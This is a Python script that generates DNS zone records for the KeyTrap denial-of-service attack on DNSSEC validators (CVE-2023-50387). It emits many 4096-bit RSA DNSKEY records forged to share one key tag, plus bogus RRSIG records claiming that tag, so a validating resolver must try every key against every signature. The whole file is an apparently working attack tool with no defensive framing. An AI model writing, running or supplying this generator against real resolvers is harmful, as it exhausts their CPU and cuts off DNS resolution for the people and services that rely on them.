#!/usr/bin/env python3
"""dns_trap.py keys TAG COUNT | sigs ZONE TAG COUNT: rows of a zone that would keep a validator busy (KeyTrap,
CVE-2023-50387): keys that all have the tag of the real one, and signatures for a.ZONE that each might be theirs."""

import base64
import os
import sys

OCTETS = 512  # RSA, 4096 bits: the dearer the better
EXPONENT = 0xfffffffb.to_bytes(4, 'big')


def total(rdata):
    return sum(rdata[::2]) * 256 + sum(rdata[1::2])


def tag(sum_):
    """RFC 4034 B."""
    return (sum_ + (sum_ >> 16)) & 0xffff


def keys(wanted, count):
    for n in range(count):
        rdata = bytearray(b'\x01\x00\x03\x08\x04' + EXPONENT + b'\xc0' + n.to_bytes(2, 'big') +
                          os.urandom(OCTETS - 6) + b'\0\0\x01')
        at = len(rdata) - 3 if (len(rdata) - 3) % 2 == 0 else len(rdata) - 4
        rest = total(rdata)
        rdata[at:at + 2] = next(w for w in range(1 << 16) if tag(rest + w) == wanted).to_bytes(2, 'big')
        print('@ IN DNSKEY 256 3 8', base64.b64encode(rdata[4:]).decode())


def sigs(zone, wanted, count):
    for _ in range(count):
        print(f'a.{zone}. 300 IN RRSIG A 8 3 300 20370101000000 20200101000000 {wanted} {zone}.',
              base64.b64encode(os.urandom(OCTETS)).decode())


if sys.argv[1] == 'keys':
    keys(int(sys.argv[2]), int(sys.argv[3]))
else:
    sigs(sys.argv[2], int(sys.argv[3]), int(sys.argv[4]))
